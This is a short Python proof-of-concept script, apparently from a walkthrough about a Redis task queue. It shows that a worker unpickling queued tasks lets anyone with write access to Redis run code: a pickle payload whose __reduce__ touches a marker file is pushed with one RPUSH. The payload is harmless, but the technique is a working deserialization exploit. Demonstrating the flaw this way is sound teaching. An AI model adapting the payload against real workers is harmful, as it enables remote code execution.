"""Anyone who can write to the walkthrough's Redis runs code on its workers: unpickling alone does it."""

import os
import pickle
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import redis

r = redis.Redis.from_url(os.environ.get("YOTAQ_REDIS_URL", "redis://localhost:6379/0"))
r.delete("tasks")
proof = Path(tempfile.gettempdir()) / "walkthrough-was-here"
proof.unlink(missing_ok=True)


class Payload:
    def __reduce__(self):  # what unpickling calls: any function, any arguments
        return (Path.touch, (proof,))


worker = subprocess.Popen([sys.executable, Path(__file__).with_name("walkthrough_worker.py")])
r.rpush("tasks", pickle.dumps(Payload()))  # no client.py involved: one RPUSH from anywhere
deadline = time.monotonic() + 10
while not proof.exists() and time.monotonic() < deadline:  # give the worker a moment to take it
    time.sleep(0.05)
worker.kill()
worker.wait()
print("the payload ran on the worker:", proof.exists())
proof.unlink(missing_ok=True)
